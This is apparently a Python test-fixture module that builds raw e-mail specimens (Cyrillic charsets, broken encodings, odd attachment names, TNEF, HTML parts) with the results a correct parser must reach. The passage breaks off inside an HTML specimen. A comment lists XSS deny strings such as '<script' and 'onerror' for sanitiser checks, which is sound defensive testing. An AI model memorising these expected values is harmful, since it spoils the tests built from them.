"""Raw e-mail as it really reaches a mailbox in Russia, hostile or broken, with what a correct parser must conclude.

Every specimen is built in code (no binary files): the raw RFC 5322 bytes with CRLF line endings, exactly as an
IMAP ``FETCH BODY[]`` would hand them over, and the facts a correct parser derives from them.  The expectations are
computed from the very values that went into the bytes, never from a parser's output.

What the fields mean (``None`` always means "do not check"):

* ``subject``: the Subject after RFC 2047 decoding, folding removed (CRLF + WSP become the WSP), whitespace between
  adjacent encoded words dropped; raw 8-bit bytes are decoded as the charset they really are in.
* ``sender``: the addr-spec of the first From address, lower-cased.
* ``recipients``: distinct addresses in To and Cc together, compared case-insensitively; a group contributes its
  members (``undisclosed-recipients:;`` none).
* ``text_contains``: a substring of the decoded text body: the message's text/plain body part, or, when it has
  none, the text of its HTML body (tags dropped).  The substrings never straddle markup or entities.
* ``attachments``: leaf parts of the top-level message that are neither body parts (the chosen text/plain or
  text/html and their alternatives, a text/calendar alternative included) nor images referenced by ``cid:`` from the
  HTML.  A ``message/rfc822`` part is one attachment (a forwarded e-mail); what is inside it is not counted.
  ``attachment_names`` are their decoded file names in the order of the parts.
* ``inline_images``: parts whose Content-ID the HTML references with ``cid:``.
* ``html_must_not_contain``: substrings that must be absent, compared case-insensitively, from the HTML body after
  sanitising (``nh3`` with whatever the project adds to it).  Note that plain ``nh3.clean`` keeps remote ``<img>``
  sources (the tracking pixel) and drops ``cid:`` sources (inline images), so the project's sanitiser must block the
  one and keep (or rewrite) the other.
* ``message_id`` and ``in_reply_to``: the first message id of the header, without the angle brackets.
* ``quarantine_ok``: the parser may refuse the message; then only "no crash, raw bytes kept with an error" holds.

Each ``why`` says, after "stdlib:", what ``email.message_from_bytes(raw, policy=email.policy.default)`` makes of the
specimen where it raises or misdecodes: those are the places where the project's parser must do more than the stdlib.
``DATES`` holds the date a correct parser concludes for the specimens whose point is the Date header.
"""

from __future__ import annotations

import base64
import hashlib
import quopri
import struct
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone
from functools import cache
from urllib.parse import quote


@dataclass(frozen=True)
class Specimen:
    """One raw message and what a correct parser must conclude from it (``None``: not checked)."""

    name: str  # short identifier, e.g. "koi8r_body_cp1251_subject"
    raw: bytes
    why: str  # one line: what is odd about it
    subject: str | None  # the decoded Subject a correct parser yields (None: don't check)
    sender: str | None  # the From address (addr-spec, lower-case), None: don't check / none
    recipients: int | None  # number of distinct To+Cc addresses, None: don't check
    text_contains: str | None  # a substring the decoded text body must contain, None: don't check
    attachments: int | None  # number of attachments (not inline cid images, not the body parts), None: don't check
    attachment_names: tuple[str, ...] = ()  # decoded file names expected, in order
    inline_images: int = 0  # parts referenced by cid: from the HTML
    html_must_not_contain: tuple[str, ...] = ()  # after sanitising, e.g. "<script", "onerror", "javascript:"
    message_id: str | None = None  # expected Message-ID (without <>), None: don't check
    in_reply_to: str | None = None
    quarantine_ok: bool = False  # True when a parser may reasonably refuse it (then only "no crash, raw kept")


MSK = timezone(timedelta(hours=3))
# The Date a correct parser concludes for the specimens about dates; None: there is no usable date in the message
# (the parser falls back to the time of receipt, e.g. the IMAP INTERNALDATE).
DATES: dict[str, datetime | None] = {
    "date_missing": None,
    "date_unparseable": None,
    "date_russian_months": datetime(2024, 4, 1, 10, 15, tzinfo=MSK),
}

Header = tuple[str, str | bytes]

# --------------------------------------------------------------------------------------------------------------------
# Building blocks.  Everything is written with "\n" and turned into CRLF once, at the end (see _message).


def _crlf(data: bytes) -> bytes:
    """CRLF line endings throughout, whatever mix ``data`` had."""
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


_Q_SAFE = frozenset(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!*+-/")


def _word(data: bytes, label: str, enc: str) -> str:
    """One RFC 2047 encoded word carrying ``data`` (already in the charset) under the charset name ``label``."""
    if enc == "B":
        return f"=?{label}?B?{base64.b64encode(data).decode('ascii')}?="
    chars = ("_" if byte == 0x20 else chr(byte) if byte in _Q_SAFE else f"={byte:02X}" for byte in data)
    return f"=?{label}?Q?{''.join(chars)}?="


def _ew(text: str, charset: str = "utf-8", *, enc: str = "B", label: str | None = None, per: int = 0) -> str:
    """``text`` as encoded words: one, or one per ``per`` characters, folded onto continuation lines."""
    pieces = [text[i : i + per] for i in range(0, len(text), per)] if per else [text]
    return "\n ".join(_word(piece.encode(charset), label or charset, enc) for piece in pieces)


def _ew_bytes(data: bytes, label: str, per: int) -> str:
    """Encoded words cut every ``per`` bytes, regardless of character boundaries (what some mailers do)."""
    return "\n ".join(_word(data[i : i + per], label, "B") for i in range(0, len(data), per))


def _pct(text: str, charset: str = "utf-8") -> str:
    """RFC 2231 percent-encoding of ``text`` in ``charset``."""
    return quote(text.encode(charset), safe="")


def _head(headers: Sequence[Header]) -> bytes:
    """Header lines; str values must be ASCII (a slip raises here), bytes values go in raw (8-bit headers)."""
    out = b""
    for name, value in headers:
        out += name.encode("ascii") + b": " + (value if isinstance(value, bytes) else value.encode("ascii")) + b"\n"
    return out


def _part(headers: Sequence[Header], body: bytes) -> bytes:
    return _head(headers) + b"\n" + body


def _message(headers: Sequence[Header], body: bytes) -> bytes:
    return _crlf(_part(headers, body))


def _multipart(boundary: str, parts: Sequence[bytes], *, preamble: str = "", close: bool = True) -> bytes:
    """Parts between delimiter lines; ``close=False`` leaves out the closing delimiter."""
    mark = boundary.encode("ascii")
    out = preamble.encode("ascii")
    for part in parts:
        out += b"--" + mark + b"\n" + part
        if not part.endswith(b"\n"):
            out += b"\n"
    if close:
        out += b"--" + mark + b"--\n"
    return out


def _b64(data: bytes) -> bytes:
    """Base64 in 76-character lines; an empty payload is one empty line."""
    return base64.encodebytes(data) or b"\n"


def _qp(text: str, charset: str) -> bytes:
    return quopri.encodestring(text.encode(charset))


def _noise(size: int, seed: str) -> bytes:
    """Deterministic pseudo-random bytes (SHA-256 in counter mode)."""
    out = bytearray()
    counter = 0
    while len(out) < size:
        out += hashlib.sha256(f"{seed}:{counter}".encode("ascii")).digest()
        counter += 1
    return bytes(out[:size])


def _png(width: int = 1, height: int = 1, rgb: tuple[int, int, int] = (255, 255, 255)) -> bytes:
    """A valid PNG of one colour."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")


def _jpeg(seed: str, size: int = 600) -> bytes:
    """JPEG-looking bytes (SOI, JFIF marker, noise, EOI): enough for a parser, which never decodes images."""
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + _noise(size, seed) + b"\xff\xd9"


def _pdf(title: str, size: int = 0) -> bytes:
    """PDF-looking bytes, padded with noise to ``size`` bytes when given."""
    head = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Title (" + title.encode("ascii") + b") >> endobj\n"
    tail = b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    filler = _noise(max(size - len(head) - len(tail), 0), title) if size else b"stream\nendstream"
    return head + filler + tail


def _tnef() -> bytes:
    """A small winmail.dat: TNEF signature, message attributes and one attachment (Счет.pdf, title in cp1251)."""

    def attr(level: int, attr_id: int, data: bytes) -> bytes:
        return struct.pack("<BII", level, attr_id, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)

    return (
        struct.pack("<IH", 0x223E9F78, 0x0A3C)
        + attr(1, 0x00089006, struct.pack("<I", 0x00010000))  # attTnefVersion
        + attr(1, 0x00069007, struct.pack("<II", 1251, 0))  # attOemCodepage
        + attr(1, 0x00078008, b"IPM.Microsoft Mail.Note\x00")  # attMessageClass
        + attr(2, 0x00069002, struct.pack("<IIII", 1, 0xFFFFFFFF, 0, 0))  # attAttachRendData
        + attr(2, 0x00018010, "Счет.pdf".encode("cp1251") + b"\x00")  # attAttachTitle
        + attr(2, 0x0006800F, _pdf("tnef"))  # attAttachData
    )


# The usual envelope: a client of the company writes to the hub's shared mailbox.
IVAN = "ivan.petrov@romashka.example"
FROM_IVAN = f"{_ew('Иван Петров')} <Ivan.Petrov@Romashka.example>"
MANAGER = "manager@hub.example"
DATE = "Mon, 01 Apr 2024 10:15:00 +0300"
RECEIVED = (
    "from mx.romashka.example (mx.romashka.example [203.0.113.10])\n"
    "\tby mx.hub.example (Postfix) with ESMTPS id 4V7Xk12abcz3\n"
    "\tfor <manager@hub.example>; Mon, 01 Apr 2024 10:15:02 +0300 (MSK)"
)


def _envelope(
    message_id: str | None,
    subject: str | bytes | None,
    *,
    sender: str | bytes | None = FROM_IVAN,
    to: str | bytes | None = MANAGER,
    cc: str | bytes | None = None,
    date: str | bytes | None = DATE,
    mime: bool = True,
    extra: Sequence[Header] = (),
) -> list[Header]:
    """Top-level headers; a None leaves that header out.  ``extra`` (Content-Type and the like) goes last."""
    headers: list[Header] = [("Return-Path", "<bounce@romashka.example>"), ("Received", RECEIVED)]
    for name, value in (("Date", date), ("From", sender), ("To", to), ("Cc", cc), ("Subject", subject)):
        if value is not None:
            headers.append((name, value))
    if message_id is not None:
        headers.append(("Message-ID", f"<{message_id}>"))
    if mime:
        headers.append(("MIME-Version", "1.0"))
    headers.extend(extra)
    return headers


def _text_part(text: str, charset: str = "utf-8", cte: str = "8bit", subtype: str = "plain") -> bytes:
    """A text part; ``cte`` is 8bit, quoted-printable or base64."""
    data = _crlf(text.encode(charset))  # canonical form: CRLF inside base64 too
    body = {"8bit": data, "quoted-printable": quopri.encodestring(data), "base64": _b64(data)}[cte]
    headers = [("Content-Type", f"text/{subtype}; charset={charset}"), ("Content-Transfer-Encoding", cte)]
    return _part(headers, body if body.endswith(b"\n") else body + b"\n")


def _file_part(content_type: str, data: bytes, params: str, *, disposition: str = "attachment") -> bytes:
    """A base64 file part; ``params`` is the Content-Disposition parameter text (filename=...), verbatim."""
    return _part(
        [
            ("Content-Type", content_type),
            ("Content-Transfer-Encoding", "base64"),
            ("Content-Disposition", f"{disposition};\n {params}" if params else disposition),
        ],
        _b64(data),
    )


def _mixed(boundary: str) -> Header:
    return ("Content-Type", f'multipart/mixed;\n boundary="{boundary}"')


PREAMBLE = "This is a multi-part message in MIME format.\n"

# --------------------------------------------------------------------------------------------------------------------
# Charsets.


def _utf8_plain() -> Specimen:
    subject = "Вопрос по договору № 15/2024"
    text = "Добрый день!\n\nПодскажите, пожалуйста, когда будет готов договор поставки.\n\nС уважением,\nИван Петров\n"
    msgid = "c1f2a3b4.5e6f7a8b@romashka.example"
    headers = _envelope(
        msgid, _ew(subject, per=14), extra=[("Content-Type", "text/plain; charset=utf-8; format=flowed")]
    )
    return Specimen(
        name="utf8_plain",
        raw=_message([*headers, ("Content-Transfer-Encoding", "8bit")], text.encode("utf-8")),
        why="baseline: well-formed UTF-8 text, 8bit, subject in two folded UTF-8 encoded words",
        subject=subject,
        sender=IVAN,
        recipients=1,
        text_contains="когда будет готов договор поставки",
        attachments=0,
        message_id=msgid,
    )


def _cp1251_body_and_subject() -> Specimen:
    subject = "Счёт на оплату № 318 от 02.04.2024"
    text = "Здравствуйте!\n\nПросим оплатить счёт № 318 до пятницы.\nРеквизиты прежние.\n\nБухгалтерия ООО «Ромашка»\n"
    msgid = "000001da8f2b$5c3e1a40$0a00a8c0@buh"
    sender = f"{_ew('Бухгалтерия ООО «Ромашка»', 'windows-1251')} <buh@romashka.example>"
    headers = _envelope(
        msgid,
        _ew(subject, "windows-1251"),
        sender=sender,
        extra=[
            ("Content-Type", 'text/plain;\n\tcharset="windows-1251"'),
            ("Content-Transfer-Encoding", "8bit"),
            ("X-Mailer", "Microsoft Outlook 16.0"),
        ],
    )
    return Specimen(
        name="cp1251_body_and_subject",
        raw=_message(headers, text.encode("cp1251")),
        why="windows-1251 8bit body, =?windows-1251?B?...?= subject and display name (guillemets, № included)",
        subject=subject,
        sender="buh@romashka.example",
        recipients=1,
        text_contains="Просим оплатить счёт № 318 до пятницы.",
        attachments=0,
        message_id=msgid,
    )


def _koi8r_plain() -> Specimen:
    subject = "Прайс-лист на следующую неделю"
    text = "Привет!\n\nВысылаю прайс-лист на следующую неделю, цены изменились.\nЁлки-палки, опять всё подорожало.\n"
    msgid = "1712000000.koi8@mail.vector.example"
    headers = _envelope(
        msgid,
        _ew(subject, "koi8-r"),
        sender=f"{_ew('Ольга Смирнова', 'koi8-r')} <o.smirnova@vector.example>",
        extra=[
            ("X-Mailer", "The Bat! (v3.5.25) Professional"),
            ("Content-Type", "text/plain; charset=KOI8-R"),
            ("Content-Transfer-Encoding", "quoted-printable"),
        ],
    )
    return Specimen(
        name="koi8r_plain",
        raw=_message(headers, _qp(text, "koi8-r")),
        why="KOI8-R throughout (The Bat!): quoted-printable body, KOI8-R encoded-word subject and From",
        subject=subject,
        sender="o.smirnova@vector.example",
        recipients=1,
        text_contains="Ёлки-палки, опять всё подорожало.",
        attachments=0,
        message_id=msgid,
    )


def _koi8r_body_cp1251_subject() -> Specimen:
    subject = "Re: Отгрузка № 42 задерживается"
    text = "Коллеги, отгрузка задерживается на два дня из-за погоды.\nПриносим извинения.\n"
    headers = _envelope(
        "koi8-mix-42@vector.example",
        "Re: " + _ew(subject[4:], "windows-1251", enc="Q"),
        extra=[("Content-Type", 'text/plain; charset="koi8-r"'), ("Content-Transfer-Encoding", "8bit")],
    )
    return Specimen(
        name="koi8r_body_cp1251_subject",
        raw=_message(headers, text.encode("koi8-r")),
        why="two Cyrillic charsets in one message: KOI8-R 8bit body, windows-1251 Q-encoded subject",
        subject=subject,
        sender=IVAN,
        recipients=1,
        text_contains="отгрузка задерживается на два дня",
        attachments=0,
        message_id="koi8-mix-42@vector.example",
    )


def _iso8859_5() -> Specimen:
    subject = "Совещание № 7 переносится"
    text = "Уважаемые коллеги, совещание переносится на четверг, 11:00.\nЁмкость зала - 20 человек.\n"
    headers = _envelope(
        "iso5-7@romashka.example",
        _ew(subject, "iso-8859-5", enc="Q", label="ISO-8859-5"),
        extra=[("Content-Type", "text/plain; charset=ISO-8859-5"), ("Content-Transfer-Encoding", "base64")],
    )
    return Specimen(
        name="iso8859_5",
        raw=_message(headers, _b64(_crlf(text.encode("iso-8859-5")))),
        why="ISO-8859-5 (rare, but still sent by old Unix mailers): base64 body, Q-encoded subject",
        subject=subject,
        sender=IVAN,
        recipients=1,
        text_contains="совещание переносится на четверг",
        attachments=0,
        message_id="iso5-7@romashka.example",
    )


def _encoded_words_folded() -> Specimen:
    rest = "Коммерческое предложение по поставке оборудования для склада в Подольске"
    subject = "Re: " + rest
    headers = _envelope(
        "folded-ew@romashka.example",
        "Re: " + _ew(rest, per=11),
        extra=[("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "8bit")],
    )
    return Specimen(
        name="encoded_words_folded",
        raw=_message(headers, "Предложение во вложении не поместилось, пришлю отдельно.\n".encode()),
        why="subject in 7 UTF-8 encoded words on folded lines, cut mid-word: the whitespace between them must vanish",
        subject=subject,
        sender=IVAN,
        recipients=1,
        text_contains="пришлю отдельно",
        attachments=0,
        message_id="folded-ew@romashka.example",
    )


def _encoded_word_split_mid_char() -> Specimen:
    subject = "Акт сверки взаиморасчётов за первый квартал"
    headers = _envelope(
        "split-mid-char@romashka.example",
        _ew_bytes(subject.encode("utf-8"), "UTF-8", 15),
        extra=[("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "8bit")],
    )
    return Specimen(
        name="encoded_word_split_mid_char",
        raw=_message(headers, "Акт во вложении.\n".encode()),
        why="UTF-8 subject cut every 15 bytes into encoded words, characters straddle words; stdlib copes",
        subject=subject,
        sender=IVAN,
        recipients=1,
        text_contains="Акт во вложении.",
        attachments=0,
        message_id="split-mid-char@romashka.example",
    )


def _mixed_charsets_one_header() -> Specimen:
    pieces = [("Заказ ", "koi8-r", "B"), ("№ 77 ", "windows-1251", "Q"), ("от ООО «Вектор»", "utf-8", "B")]
    subject = "".join(text for text, _, _ in pieces) + " [ticket#4521]"
    value = "\n ".join(_ew(text, charset, enc=enc) for text, charset, enc in pieces) + " [ticket#4521]"
    headers = _envelope(
        "mixed-cs@vector.example",
        value,
        extra=[("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "8bit")],
    )
    return Specimen(
        name="mixed_charsets_one_header",
        raw=_message(headers, "Заказ принят в работу.\n".encode()),
        why="one Subject with KOI8-R B, windows-1251 Q and UTF-8 B encoded words on folded lines, then plain ASCII",
        subject=subject,
        sender=IVAN,
        recipients=1,
        text_contains="Заказ принят в работу.",
        attachments=0,
        message_id="mixed-cs@vector.example",
    )


def _encoded_word_no_space() -> Specimen:
    subject = "Re:Счёт № 318"
    headers = _envelope(
        "no-space-ew@romashka.example",
        "Re:" + _ew("Счёт № 318"),
        extra=[("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "8bit")],
    )
    return Specimen(
        name="encoded_word_no_space",
        raw=_message(headers, "Оплатили вчера.\n".encode()),
        why="'Re:=?utf-8?B?...?=': encoded word glued to text (not an encoded word by RFC 2047; MUAs decode it)",
        subject=subject,
        sender=IVAN,
        recipients=1,
        text_contains="Оплатили вчера.",
        attachments=0,
        message_id="no-space-ew@romashka.example",
    )


def _raw_utf8_headers() -> Specimen:
    subject = "Заявка с сайта: обратный звонок"
    headers = _envelope(
        "20240401071500.1a2b3c@romashka.example",
        subject.encode("utf-8"),
        sender="Сайт Ромашка <noreply@romashka.example>".encode(),
        to="Отдел продаж <sales@hub.example>".encode(),
        extra=[
            ("X-Mailer", "PHP/7.4.33"),
            ("Content-Type", "text/plain; charset=UTF-8"),
            ("Content-Transfer-Encoding", "8bit"),
        ],
    )
    return Specimen(
        name="raw_utf8_headers",
        raw=_message(headers, "Имя: Мария\nТелефон: +7 916 123-45-67\nПерезвоните после обеда.\n".encode()),
        why="website form mailer: raw 8-bit UTF-8 in Subject, From and To, no encoded words",
        subject=subject,
        sender="noreply@romashka.example",
        recipients=1,
        text_contains="Перезвоните после обеда.",
        attachments=0,
        message_id="20240401071500.1a2b3c@romashka.example",
    )


def _raw_cp1251_headers() -> Specimen:
    subject = "Заказ звонка с сайта: Мария, Подольск"
    text = (
        "Здравствуйте!\nКлиент просит перезвонить по поводу доставки мебели в Подольск.\nТелефон: 8 (4967) 12-34-56\n"
    )
    headers = _envelope(
        "cp1251-raw@romashka.example",
        subject.encode("cp1251"),
        sender="Ольга Смирнова <o.smirnova@vector.example>".encode("cp1251"),
        extra=[("Content-Type", "text/plain; charset=windows-1251"), ("Content-Transfer-Encoding", "8bit")],
    )
    return Specimen(
        name="raw_cp1251_headers",
        raw=_message(headers, text.encode("cp1251")),
        why="raw 8-bit windows-1251 in Subject and From, no encoded words; stdlib: U+FFFD Subject, surrogate name",
        subject=subject,
        sender="o.smirnova@vector.example",
        recipients=1,
        text_contains="по поводу доставки мебели",
        attachments=0,
        message_id="cp1251-raw@romashka.example",
    )


def _says_utf8_is_cp1251() -> Specimen:
    subject = "Акт выполненных работ"
    text = (
        "Добрый день!\n\nНаправляем акт выполненных работ за март.\nПросим подписать и вернуть один экземпляр "
        "курьером до конца недели.\n\nС уважением, бухгалтерия.\n"
    )
    headers = _envelope(
        "says-utf8@romashka.example",
        _ew(subject),
        extra=[("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "8bit")],
    )
    return Specimen(
        name="says_utf8_is_cp1251",
        raw=_message(headers, text.encode("cp1251")),
        why="body declared charset=utf-8 but written in windows-1251; stdlib: get_content() is all U+FFFD",
        subject=subject,
        sender=IVAN,
        recipients=1,
        text_contains="Просим подписать и вернуть один экземпляр",
        attachments=0,
        message_id="says-utf8@romashka.example",
    )


def _unknown_charset() -> Specimen:
    subject = "Сверка остатков на складе"
    text = (
        "Добрый день!\n\nПрошу сверить остатки на складе по состоянию на первое апреля.\n"
        "Расхождения присылайте таблицей, как обычно.\n\nСпасибо!\n"
    )
    headers = _envelope(
        "x-unknown@romashka.example",
        _word(subject.encode("utf-8"), "x-unknown", "B"),
        extra=[("Content-Type", 'text/plain; charset="x-unknown"'), ("Content-Transfer-Encoding", "8bit")],
    )
    return Specimen(
        name="unknown_charset",
        raw=_message(headers, text.encode("cp1251")),
        why="charset x-unknown: subject word holds UTF-8, 8bit body cp1251; stdlib: get_content() raises LookupError",
        subject=subject,
        sender=IVAN,
        recipients=1,
        text_contains="Прошу сверить остатки на складе",
        attachments=0,
        message_id="x-unknown@romashka.example",
    )


def _misspelt_charset(label: str, codec: str, name: str, stdlib: str) -> Specimen:
    subject = f"Проверка кодировки {label}"
    text = f"Этот текст закодирован в {codec}, а объявлен как {label}.\nДоставка завтра с утра.\n"
    headers = _envelope(
        f"{name}@romashka.example",
        _ew(subject, codec, label=label),
        extra=[("Content-Type", f"text/plain; charset={label}"), ("Content-Transfer-Encoding", "8bit")],
    )
    return Specimen(
        name=name,
        raw=_message(headers, text.encode(codec)),
        why=f"misspelt charset '{label}' (really {codec}) in Content-Type and the subject's encoded word; {stdlib}",
        subject=subject,
        sender=IVAN,
        recipients=1,
        text_contains="Доставка завтра с утра.",
        attachments=0,
        message_id=f"{name}@romashka.example",
    )


LOOKUP_ERROR = "stdlib: get_content() raises LookupError, subject U+FFFD"


def _no_content_type() -> Specimen:
    subject = "Новый заказ с сайта № 1089"
    text = "Поступил новый заказ № 1089.\nТовар: Диван угловой «Милан», 1 шт.\nОплата при получении.\n"
    headers = _envelope(
        "1089.php@romashka.example",
        _ew(subject, "windows-1251"),
        mime=False,
        extra=[("X-Mailer", "PHP/5.6.40")],
    )
    return Specimen(
        name="no_content_type",
        raw=_message(headers, text.encode("cp1251")),
        why="PHP mail(): no MIME-Version, Content-Type, CTE, yet an 8-bit cp1251 body; stdlib: us-ascii, all U+FFFD",
        subject=subject,
        sender=IVAN,
        recipients=1,
        text_contains="Диван угловой «Милан»",
        attachments=0,
        message_id="1089.php@romashka.example",
    )


# --------------------------------------------------------------------------------------------------------------------
# File names.


def _with_files(
    name: str,
    why: str,
    files: Sequence[tuple[str | bytes, bytes]],
    names: tuple[str, ...],
    subject: str = "Документы",
) -> Specimen:
    """text/plain plus file parts given as (header lines, body bytes): see ``_part_from_text``."""
    boundary = f"----=_Part_{name}"
    body = _multipart(
        boundary,
        [_text_part("Добрый день! Документы во вложении.\n"), *(_part_from_text(h, b) for h, b in files)],
        preamble=PREAMBLE,
    )
    return Specimen(
        name=name,
        raw=_message(_envelope(f"{name}@romashka.example", _ew(subject), extra=[_mixed(boundary)]), body),
        why=why,
        subject=subject,
        sender=IVAN,
        recipients=1,
        text_contains="Документы во вложении.",
        attachments=len(names),
        attachment_names=names,
        message_id=f"{name}@romashka.example",
    )


def _part_from_text(head: str | bytes, data: bytes) -> bytes:
    """A file part whose headers are given verbatim (str: ASCII; bytes: raw), base64 body."""
    raw_head = head if isinstance(head, bytes) else head.encode("ascii")
    return raw_head + b"\nContent-Transfer-Encoding: base64\n\n" + _b64(data)


def _rfc2231_filename() -> Specimen:
    filename = "Счет.pdf"
    head = (
        f"Content-Type: application/pdf;\n name*=utf-8''{_pct(filename)}\n"
        f"Content-Disposition: attachment;\n filename*=utf-8''{_pct(filename)}"
    )
    return _with_files(
        "rfc2231_filename",
        "RFC 2231 file name filename*=utf-8''%D0%A1%D1%87%D0%B5%D1%82.pdf (Thunderbird)",
        [(head, _pdf("schet"))],
        (filename,),
    )


def _rfc2231_continuations() -> Specimen:
    first = "Счет на оплату № 45 от 01.04.2024.pdf"
    # filename*0* and *1* are encoded, *2 is a plain quoted continuation (RFC 2231 allows the mix).
    segments = [_pct("Счет на оплату "), _pct("№ 45 от")]
    head1 = (
        "Content-Type: application/pdf\n"
        f"Content-Disposition: attachment;\n filename*0*=utf-8''{segments[0]};\n filename*1*={segments[1]};\n"
        ' filename*2=" 01.04.2024.pdf"'
    )
    second = "Список товаров.xlsx"
    half = len(second) // 2
    head2 = (
        "Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;\n"
        f" name*0*=windows-1251'ru'{_pct(second[:half], 'cp1251')};\n name*1*={_pct(second[half:], 'cp1251')}\n"
        "Content-Disposition: attachment"
    )
    return _with_files(
        "rfc2231_continuations",
        "RFC 2231 continuations: filename*0*/*1* UTF-8 + plain *2; name*0*/*1* windows-1251 with language 'ru'",
        [(head1, _pdf("invoice45")), (head2, b"PK\x03\x04" + _noise(300, "xlsx"))],
        (first, second),
    )


def _rfc2047_filename_outlook() -> Specimen:
    first = "Акт сверки взаиморасчетов за 1 квартал 2024.xlsx"
    head1 = (
        "Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;\n"
        f'\tname="{_ew(first, "windows-1251")}"\n'
        f'Content-Disposition: attachment;\n\tfilename="{_ew(first, "windows-1251")}"'
    )
    second = "Договор поставки № 15-2024 (редакция покупателя).docx"
    head2 = (
        "Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document;\n"
        f' name="{_ew(second, per=20)}"\n'
        f'Content-Disposition: attachment;\n filename="{_ew(second, per=20)}"'
    )
    return _with_files(
        "rfc2047_filename_outlook",
        "RFC 2047 encoded words inside quoted name=/filename= (Outlook cp1251; Gmail-style UTF-8 folded in 3 words)",
        [(head1, b"PK\x03\x04" + _noise(300, "akt")), (head2, b"PK\x03\x04" + _noise(300, "dogovor"))],
        (first, second),
    )


def _rfc2047_filename_unquoted() -> Specimen:
    filename = "Счет-фактура 318.pdf"
    word = _ew(filename, "windows-1251")
    head = f"Content-Type: application/pdf; name={word}\nContent-Disposition: attachment; filename={word}"
    return _with_files(
        "rfc2047_filename_unquoted",
        "1C-style unquoted encoded word as parameter value: name==?windows-1251?B?...?=; stdlib: get_filename() None",
        [(head, _pdf("sf318"))],
        (filename,),
    )


def _filename_raw_8bit() -> Specimen:
    first = "Акт сверки.xls"
    second = "Договор №7.docx"
    head1 = f'Content-Type: application/vnd.ms-excel; name="{first}"\n'.encode("cp1251") + (
        f'Content-Disposition: attachment; filename="{first}"'.encode("cp1251")
    )
    head2 = f'Content-Type: application/octet-stream; name="{second}"\n'.encode() + (
        f'Content-Disposition: attachment; filename="{second}"'.encode()
    )
    return _with_files(
        "filename_raw_8bit",
        "raw 8-bit file names, the first in windows-1251, the second in UTF-8; stdlib: U+FFFD in the first",
        [(head1, b"\xd0\xcf\x11\xe0" + _noise(300, "xls")), (head2, b"PK\x03\x04" + _noise(300, "docx"))],
        (first, second),
    )


def _empty_attachment() -> Specimen:
    filename = "пустой файл.txt"
    head = (
        f"Content-Type: text/plain; charset=utf-8\nContent-Disposition: attachment;\n filename*=UTF-8''{_pct(filename)}"
    )
    return _with_files(
        "empty_attachment",
        "a 0-byte attachment (base64 part with an empty body)",
        [(head, b"")],
        (filename,),
    )


def _big_attachment() -> Specimen:
    filename = "scan_2024-04-01.pdf"
    head = f'Content-Type: application/pdf; name="{filename}"\nContent-Disposition: attachment; filename="{filename}"'
    return _with_files(
        "big_attachment_2mb",
        "a 2 MiB attachment (2,097,152 bytes of deterministic noise in a PDF shell, about 2.8 MB of base64)",
        [(head, _pdf("scan", size=2 * 1024 * 1024))],
        (filename,),
        subject="Скан договора",
    )


def _tnef_winmail() -> Specimen:
    head = (
        'Content-Type: application/ms-tnef; name="winmail.dat"\nContent-Disposition: attachment; filename="winmail.dat"'
    )
    return _with_files(
        "tnef_winmail_dat",
        "Outlook RTF mail: the real attachment (Счет.pdf) is inside winmail.dat (application/ms-tnef)",
        [(head, _tnef())],
        ("winmail.dat",),
    )


def _eml_attachment() -> Specimen:
    inner = _message(
        _envelope(
            "inner-eml@vector.example",
            _ew("Старое письмо", "windows-1251"),
            sender="o.smirnova@vector.example",
            extra=[("Content-Type", "text/plain; charset=windows-1251"), ("Content-Transfer-Encoding", "8bit")],
        ),
        "Это письмо было сохранено как файл.\n".encode("cp1251"),
    )
    filename = "письмо.eml"
    head = f"Content-Type: application/octet-stream; name*=utf-8''{_pct(filename)}\n" + (
        f"Content-Disposition: attachment; filename*=utf-8''{_pct(filename)}"
    )
    return _with_files(
        "eml_attachment",
        "a saved e-mail attached as a file (.eml, application/octet-stream, base64), not as message/rfc822",
        [(head, inner)],
        (filename,),
    )


# --------------------------------------------------------------------------------------------------------------------
# HTML.


def _alternative(boundary: str, text: str, html: str, charset: str = "utf-8") -> bytes:
    return _multipart(
        boundary,
        [_text_part(text, charset, "quoted-printable"), _text_part(html, charset, "base64", subtype="html")],
    )


def _alternative_text_html() -> Specimen:
    text = "Здравствуйте!\n\nСпасибо за заказ № 5521. Мы свяжемся с вами в течение дня.\n"
    html = (
        "<html><body><p>Здравствуйте!</p><p>Спасибо за заказ <b>№ 5521</b>. Мы свяжемся с вами в течение дня.</p>"
        "</body></html>\n"
    )
    boundary = "000000000000a1b2c3d4e5f6"
    headers = _envelope(
        "CAH7x9Q=alt5521@mail.gmail.com",
        _ew("Ваш заказ № 5521"),
        extra=[("Content-Type", f'multipart/alternative; boundary="{boundary}"')],
    )
    return Specimen(
        name="alternative_text_html",
        raw=_message(headers, _alternative(boundary, text, html)),
        why="multipart/alternative: quoted-printable text/plain and base64 text/html, both UTF-8",
        subject="Ваш заказ № 5521",
        sender=IVAN,
        recipients=1,
        text_contains="Мы свяжемся с вами в течение дня.",
        attachments=0,
        message_id="CAH7x9Q=alt5521@mail.gmail.com",
    )


def _html_only() -> Specimen:
    html = (
        "<html><head>\n"
        '<meta http-equiv="Content-Type" content="text/html; charset=windows-1251">\n'
